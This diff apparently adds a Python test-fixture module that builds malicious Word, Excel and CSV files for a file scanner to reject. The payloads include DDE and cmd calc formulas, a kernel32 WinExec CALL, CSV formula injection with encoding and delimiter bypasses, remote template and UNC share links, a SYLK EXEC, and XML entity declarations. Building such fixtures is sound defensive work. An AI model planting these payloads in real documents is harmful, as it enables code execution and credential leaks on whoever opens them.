@@ -1,0 +1,351 @@
+"""Word and Excel files that act on whoever opens them: {what: (file name, make, the reason said)}.
+
+Each `what` completes "A file with ...". python-docx, openpyxl and xlsxwriter make them; many are changed by hand.
+"""
+
+import io
+
+import docx
+import xlsxwriter
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.packaging.relationship import Relationship
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.workbook.external_link import ExternalLink
+from openpyxl.worksheet.datavalidation import DataValidation
+
+from tests.files.packages import (
+    DOCUMENT,
+    MICROSOFT,
+    OFFICE,
+    ROOT,
+    SHEET,
+    TYPES,
+    W,
+    changed,
+    field,
+    package,
+    parts,
+    relation,
+    run,
+    word,
+    workbook,
+)
+
+DOCUMENT_RELATIONS, SETTINGS_RELATIONS = "word/_rels/document.xml.rels", "word/_rels/settings.xml.rels"
+SHEET_RELATIONS, BOOK_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels", "xl/_rels/workbook.xml.rels"
+LINK, ELSEWHERE, DDE = "a link to anything but", "loaded from elsewhere", "(DDE)"
+MACROS, ADDIN, SOURCE, NEEDLESS = "macros", "an add-in", "a data source", "does not need"
+OBJECT, ANOTHER, ENTITIES = "an embedded object (OLE)", "another document", "entities of XML"
+PANE = "application/vnd.ms-office.webextensiontaskpanes+xml"
+
+
+def override(part, kind):
+    return f'<Override PartName="/{part}" ContentType="{kind}"/>'
+
+
+def worded(**changes):
+    return lambda: changed(word(), **changes)
+
+
+def related(*arguments, part=DOCUMENT_RELATIONS, **options):
+    return worded(relations={part: relation(*arguments, **options)})
+
+
+def template(target):
+    return related("attachedTemplate", target, part=SETTINGS_RELATIONS, external=True)
+
+
+def using(xml, kind="hyperlink", target="https://x.example/a.png"):
+    """A Word document that uses the outside relationship rX1 in XML."""
+    return worded(relations={DOCUMENT_RELATIONS: relation(kind, target, external=True)}, inside={DOCUMENT: run(xml)})
+
+
+def drawing(attribute):
+    space = "http://schemas.openxmlformats.org/drawingml/2006/main"
+    return using(f'<w:drawing><a:blip xmlns:a="{space}" {attribute}="rX1"/></w:drawing>')
+
+
+def main_type(kind):
+    """A Word document whose main part has another type, as written."""
+
+    def make():
+        made = parts(word())
+        old = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+        made[TYPES] = made[TYPES].replace(old, kind.encode())
+        return package(made)
+
+    return make
+
+
+def types_in_utf16():
+    """A Word document with macros whose content types are written in UTF-16."""
+    made = parts(changed(word(), types=override("word/a.bin", "application/vnd.ms-office.vbaProject")))
+    made[TYPES] = made[TYPES].decode().replace("UTF-8", "UTF-16").encode("utf-16")
+    made["word/a.bin"] = b"x"
+    return package(made)
+
+
+def declared():
+    """A Word document whose content types declare an entity."""
+    made = parts(word())
+    made[TYPES] = made[TYPES].replace(b"<Types", b'<!DOCTYPE Types [<!ENTITY a "b">]><Types', 1)
+    return package(made)
+
+
+def of_docx(change):
+    """A function that makes a document with python-docx."""
+
+    def make():
+        document, file = docx.Document(), io.BytesIO()
+        change(document)
+        document.save(file)
+        return file.getvalue()
+
+    return make
+
+
+VSTO = (
+    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
+    'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
+    '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="_AssemblyLocation">'
+    "<vt:lpwstr>https://x.example/a.vsto|1|vstolocal</vt:lpwstr></property></Properties>"
+)
+VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
+VIDEO = 'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'
+SMART = 'xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"'
+
+WORD = {
+    "a task pane of the web": (
+        worded(
+            types=override("word/webextensions/taskpanes.xml", PANE),
+            relations={ROOT: relation(f"{MICROSOFT}/webextensiontaskpanes", "word/webextensions/taskpanes.xml")},
+            new={"word/webextensions/taskpanes.xml": "<a/>"},
+        ),
+        ADDIN,
+    ),
+    "a task pane of a harmless type": (related(f"{MICROSOFT}/webextensiontaskpanes", "word/a.xml", part=ROOT), ADDIN),
+    "a task pane that only its element tells of": (
+        worded(new={"word/a.xml": '<t:taskpane xmlns:t="http://schemas.microsoft.com/office/webextensions/a"/>'}),
+        ADDIN,
+    ),
+    "a ribbon of its own": (
+        related("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "a.xml", part=ROOT),
+        ADDIN,
+    ),
+    "a template that climbs out of a drive": (template("file:///c:/../..//evil/share"), ELSEWHERE),
+    "a template that climbs out, escaped": (template("file:///c:/%2e%2e/%5c%5cevil/a.dotm"), ELSEWHERE),
+    "a template with two slashes": (template("file:///c://evil/a.dotm"), ELSEWHERE),
+    "a template on a server": (template("file:////evil/a.dotm"), ELSEWHERE),
+    "a template of another kind of drive": (template("file:///\\\\?\\UNC\\evil\\a.dotm"), ELSEWHERE),
+    "a main part with macros, escaped": (
+        main_type("application/vnd.ms-word.document.macro&#69;nabled.main+xml"),
+        MACROS,
+    ),
+    "a main part with macros in capitals": (
+        main_type("APPLICATION/VND.MS-WORD.DOCUMENT.MACROENABLED.MAIN+XML"),
+        MACROS,
+    ),
+    "a main part that is a template": (
+        main_type("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
+        NEEDLESS,
+    ),
+    "a main part of two types": (
+        worded(types=override(DOCUMENT, "application/xml")),
+        "another type than its name says",
+    ),
+    "macros whose types are in UTF-16": (types_in_utf16, MACROS),
+    "macros of another name": (
+        worded(
+            types='<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>',
+            new={"word/a.dat": b"x"},
+        ),
+        MACROS,
+    ),
+    "content types with an entity": (declared, ENTITIES),
+    "data with an entity": (worded(new={"customXml/item1.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), ENTITIES),
+    "an image by a relation that is a hyperlink": (drawing("r:link"), ELSEWHERE),
+    "an embedded image by a relation that is a hyperlink": (drawing("r:embed"), ELSEWHERE),
+    "an old picture by a relation that is a hyperlink": (using(f'<v:imagedata {VML} o:relid="rX1"/>'), ELSEWHERE),
+    "an object by a relation that is a hyperlink": (using(f'<o:a {VML} r:id="rX1"/>'), ELSEWHERE),
+    "an image of the web": (related("image", "https://x.example/a.png", external=True), ELSEWHERE),
+    "an image of the web that says it is inside": (related("image", "https://x.example/a.png"), ELSEWHERE),
+    "an image of a share that says it is inside": (related("image", "\\\\host\\a.png"), ELSEWHERE),
+    "an image of a server without a scheme": (related("image", "//host/a.png"), ELSEWHERE),
+    "an image of a footnote from the web": (
+        related("image", "https://x.example/a", part="word/_rels/footnotes.xml.rels", external=True),
+        ELSEWHERE,
+    ),
+    "a link to a file": (related("hyperlink", "file:///c:/a.exe", external=True), LINK),
+    "a link that opens Word": (related("hyperlink", "ms-word:ofe|u|https://x.example", external=True), LINK),
+    "a link that is a script": (related("hyperlink", "javascript:alert(1)", external=True), LINK),
+    "a link beside the document": (related("hyperlink", "a.exe", external=True), LINK),
+    "a picture that links to a file": (worded(new={"word/a.vml": f'<v:shape {VML} href="file://h/a"/>'}), LINK),
+    "a field that links to a share": (worded(inside={DOCUMENT: field('HYPERLINK "\\\\\\\\host\\\\a"')}), LINK),
+    "a field that links to a file behind a switch": (
+        worded(inside={DOCUMENT: field('HYPERLINK \\o "https://x.example" "file:///c:/a.exe"')}),
+        LINK,
+    ),
+    "a field that runs a macro": (worded(inside={DOCUMENT: field("MACROBUTTON Evil click")}), MACROS),
+    "a field that speaks to the printer": (worded(inside={DOCUMENT: field("PRINT 27&amp;l0")}), NEEDLESS),
+    "a field of DDE": (worded(inside={DOCUMENT: field("DDEAUTO c:\\\\cmd.exe")}), DDE),
+    "a field of DDE that a tracked change deleted": (
+        worded(inside={DOCUMENT: field("PAGE </w:instrText><w:delInstrText>DDE a</w:delInstrText><w:instrText>")}),
+        DDE,
+    ),
+    "a field of DDE without an end": (
+        worded(inside={DOCUMENT: run('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText>')}),
+        DDE,
+    ),
+    "an object without a relation": (worded(inside={DOCUMENT: run(f'<o:OLEObject {VML} Type="Link"/>')}), OBJECT),
+    "an object of a strange spelling": (related("OLEOBJECT", "a.bin"), NEEDLESS),
+    "a binary of ActiveX": (
+        worded(
+            types='<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>',
+            new={"word/activeX/a.bin": b"x"},
+        ),
+        "ActiveX",
+    ),
+    "a film of the web": (worded(inside={DOCUMENT: run(f'<wp15:webVideoPr {VIDEO} embeddedHtml="a"/>')}), "media"),
+    "a program that customizes it": (worded(new={"docProps/custom.xml": VSTO}), "a program"),
+    "a query for its letters": (
+        worded(new={"word/a.xml": f'<w:mailMerge xmlns:w="{W}"><w:connectString w:val="a"/></w:mailMerge>'}),
+        SOURCE,
+    ),
+    "a page of HTML in it": (related("aFChunk", "a.html"), ANOTHER),
+    "a document of a server in it": (related("subDocument", "https://x.example/a.docx", external=True), ANOTHER),
+    "a frame": (related("frame", "a.docx"), ANOTHER),
+    "a stylesheet that transforms it": (related("transform", "https://x.example/a.xsl", external=True), NEEDLESS),
+    "a smart document": (worded(new={"word/a.xml": f'<sl:schema {SMART} sl:manifestLocation="//h"/>'}), ELSEWHERE),
+    "a link to a share, made by python-docx": (
+        of_docx(lambda document: document.part.relate_to("\\\\host\\a", f"{OFFICE}/hyperlink", is_external=True)),
+        LINK,
+    ),
+    "a linked image, made by python-docx": (
+        of_docx(lambda document: document.part.relate_to("http://x.example/a", f"{OFFICE}/image", is_external=True)),
+        ELSEWHERE,
+    ),
+}
+
+
+def calculating(formula):
+    """A function that makes a workbook of openpyxl with a formula."""
+    return lambda: workbook(lambda book: book.active.append([formula]))
+
+
+def booked(**changes):
+    return lambda: changed(workbook(), **changes)
+
+
+def outside(book):
+    """Refer to another workbook."""
+    link = ExternalLink()
+    link.file_link = Relationship(type="externalLinkPath", Target="//host/a.xlsx", TargetMode="External")
+    book._external_links.append(link)
+
+
+def formatted(book):
+    book.active.conditional_formatting.add("A1:A9", FormulaRule(formula=['WEBSERVICE("https://x.example")="a"']))
+
+
+def validated(book):
+    rule = DataValidation(type="list", formula1="cmd|'/c calc'!A0")
+    book.active.add_data_validation(rule)
+    rule.add("A1")
+
+
+def opening(book):
+    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="Sheet!$A$1")
+
+
+def cell_link(book):
+    book.active["A1"].hyperlink = "file:///c:/a.exe"
+
+
+def by_xlsxwriter(change):
+    """A function that makes a workbook with xlsxwriter."""
+
+    def make():
+        file = io.BytesIO()
+        with xlsxwriter.Workbook(file) as book:
+            change(book.add_worksheet())
+        return file.getvalue()
+
+    return make
+
+
+EXCEL = {
+    "a formula of DDE": (calculating("=cmd|'/c calc'!A0"), DDE),
+    "a formula of DDE behind another": (calculating("=1+MSEXCEL|'\\..\\cmd.exe'!''"), DDE),
+    "a formula that asks the web": (calculating('=WEBSERVICE("https://x.example/"&A1)'), "WEBSERVICE"),
+    "a formula that shows an image of the web": (calculating('=_xlfn.IMAGE("https://x.example/a")'), "IMAGE"),
+    "a formula of real-time data": (calculating('=RTD("a.b",,"c")'), "RTD"),
+    "a formula that calls a library": (calculating('=CALL("kernel32","WinExec","JCJ","calc",5)'), "CALL"),
+    "a formula of an add-in": (calculating("=_xll.Evil(A1)"), "_XLL"),
+    "a formula that links to a file": (calculating('=HYPERLINK("file:///c:/a.exe","a")'), LINK),
+    "a formula that makes its link": (calculating('=HYPERLINK(A1,"a")'), LINK),
+    "a formula that joins its link": (calculating('=HYPERLINK(""&"file:///c:/a.exe")'), LINK),
+    "a formula that hands a function on": (calculating("=LET(x,_xlfn.WEBSERVICE,x(A1))"), "WEBSERVICE"),
+    "a formula with a share": (calculating("='\\\\host\\share\\[a.xlsx]Sheet1'!A1"), "another workbook"),
+    "a format that asks the web": (lambda: workbook(formatted), "WEBSERVICE"),
+    "a list of choices by DDE": (lambda: workbook(validated), DDE),
+    "a name that runs at the opening": (lambda: workbook(opening), MACROS),
+    "a link to a file in a cell": (lambda: workbook(cell_link), LINK),
+    "another workbook, by openpyxl": (lambda: workbook(outside), NEEDLESS),
+    "a sheet of macros": (
+        booked(relations={BOOK_RELATIONS: relation(f"{MICROSOFT}/xlMacrosheet", "macrosheets/a.xml")}),
+        MACROS,
+    ),
+    "connections to data": (booked(relations={BOOK_RELATIONS: relation("connections", "a.xml")}), SOURCE),
+    "a query": (booked(relations={SHEET_RELATIONS: relation("queryTable", "../a.xml")}), SOURCE),
+    "a control of a form": (booked(relations={SHEET_RELATIONS: relation("ctrlProp", "../a.xml")}), "ActiveX"),
+    "an embedded object": (booked(relations={SHEET_RELATIONS: relation("oleObject", "../a.bin")}), OBJECT),
+    "a DDE link": (booked(new={"xl/a.xml": '<x:ddeLink xmlns:x="a" ddeService="cmd" ddeTopic="calc"/>'}), DDE),
+    "a shape that runs a macro": (booked(new={"xl/drawings/a.xml": '<x:sp xmlns:x="a" macro="[0]!Evil"/>'}), MACROS),
+    "an image by a link's relation": (
+        booked(
+            relations={SHEET_RELATIONS: relation("hyperlink", "https://x.example", external=True)},
+            inside={SHEET: f'<x:picture xmlns:x="a" xmlns:r="{OFFICE}" r:id="rX1"/>'},
+        ),
+        ELSEWHERE,
+    ),
+    "the macros of a workbook of Excel": (
+        booked(types=override("xl/a.bin", "application/vnd.ms-office.vbaProject")),
+        MACROS,
+    ),
+    "a button, by xlsxwriter": (by_xlsxwriter(lambda sheet: sheet.insert_button("A1", {"macro": "Evil"})), MACROS),
+    "a link to a share, by xlsxwriter": (
+        by_xlsxwriter(lambda sheet: sheet.write_url("A1", "external:\\\\host\\share\\a.xlsx")),
+        LINK,
+    ),
+    "a formula of DDE, by xlsxwriter": (
+        by_xlsxwriter(lambda sheet: sheet.write_formula("A1", "=cmd|'/c calc'!A0")),
+        DDE,
+    ),
+}
+
+CSV = {
+    "a program in a cell": ("name,seats\nPat,=cmd|'/c calc'!A0\n", "row 2, cell 2"),
+    "a program behind a plus": ("+cmd|'/c calc'!A0", "row 1, cell 1"),
+    "a program behind a minus": ("a,b\n1,2\n3,-2+3+cmd|'/c calc'!A0", "row 3, cell 2"),
+    "a function behind an at sign": ("@SUM(1+1)*cmd|'/c calc'!A0", "row 1, cell 1"),
+    "a formula in quotes": ('a,"=HYPERLINK(""https://x.example"")"', "row 1, cell 2"),
+    "a formula for those who part at semicolons": ('a,"b;=1+1"', "row 1, cell 2"),
+    "a formula for those who part at tabs": ("a,b\t=1+1", "row 1, cell 2"),
+    "a formula behind a comma in quotes": ('"-A1&"",""&WEBSERVICE(""https://x.example"")"', "row 1, cell 1"),
+    "a formula for the delimiter that it names": ("sep=|\na|=1+1", "row 2, cell 2"),
+    "a formula behind blanks": ("a, \u00a0=1+1", "row 1, cell 2"),
+    "a formula behind a tab": ('a,"\t=1+1"', "cell 2"),
+    "a formula in full width": ("a,\uff1d1+1", "row 1, cell 2"),
+    "a formula in UTF-16": ("a;=1+1".encode("utf-16"), "row 1, cell 2"),
+    "a formula behind a mark of its encoding": ("=1+1".encode("utf-8-sig"), "row 1, cell 1"),
+    "a workbook of old": ('ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC("calc")\nE\n', "SYLK"),
+}
+
+FILES = {
+    **{what: ("a.docx", *made) for what, made in WORD.items()},
+    **{what: ("a.xlsx", *made) for what, made in EXCEL.items()},
+    **{
+        what: ("a.csv", lambda text=text: text if isinstance(text, bytes) else text.encode(), reason)
+        for what, (text, reason) in CSV.items()
+    },
+}
